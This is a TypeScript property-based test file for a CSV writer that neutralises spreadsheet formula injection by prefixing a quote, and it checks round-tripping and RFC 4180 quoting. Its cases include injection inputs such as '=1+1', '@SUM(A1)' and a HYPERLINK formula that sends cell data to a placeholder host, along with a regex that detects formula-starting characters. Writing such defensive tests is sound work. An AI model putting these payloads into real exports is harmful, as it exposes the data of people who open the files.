import fc from "fast-check";
import { expect, test } from "vitest";
import { csvLine, neutralise, restore } from "./csv";

/** Text rich in what formulas, quotes and lines are made of. */
const nasty = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc.string({
    unit: fc.constantFrom(..."'\"=+-@\t\r\n,;| a1(\uff1d\uff0b\uff0d\uff20\u200b".split("")),
  }),
);

/** An independent reader of RFC 4180. */
function read(text: string): string[][] {
  const records: string[][] = [[]];
  for (const [, field = "", end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    records.at(-1)?.push(field.replaceAll('""', '"'));
    if (end === "\r\n") records.push([]);
  }
  return records.slice(0, -1);
}

test("whatever goes in, reading and restoring gives it back, and no cell can begin a formula", () =>
  fc.assert(
    fc.property(fc.array(fc.array(nasty, { minLength: 1, maxLength: 9 }), { maxLength: 5 }), (records) => {
      const cells = read(records.map(csvLine).join(""));
      expect(cells.map((fields) => fields.map(restore))).toEqual(records);
      for (const cell of cells.flat())
        expect(cell).not.toMatch(/(^|[;|\t\r\n])[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
    }),
    { numRuns: 2_000 },
  ));

test.each([
  ["=1+1", "'=1+1"],
  ["+14155550134", "'+14155550134"],
  ["-2", "'-2"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1", "'\t'=1"],
  ["\r=1", "'\r'=1"],
  ["x;=1+1;y", "x;'=1+1;y"],
  ["x|@SUM(A1)", "x|'@SUM(A1)"],
  ["two\n-lines", "two\n'-lines"],
  ["x;'=1", "x;''=1"],
  ["a; b = c", "a; b = c"],
  ["'=1", "''=1"],
  ['=HYPERLINK("https://x.example?"&A1)', '\'=HYPERLINK("https://x.example?"&A1)'],
  ["O'Brien", "O'Brien"],
  ["'quoted", "'quoted"],
  ["", ""],
])("%j is written as %j", (value, written) => {
  expect(neutralise(value)).toBe(written);
  expect(restore(written)).toBe(value);
});

test("fields are quoted always, quotes doubled, lines end with CRLF", () => {
  expect(csvLine(["Kim, Lee", 'the "boss"', "two\nlines"])).toBe(
    '"Kim, Lee","the ""boss""","two\nlines"\r\n',
  );
});
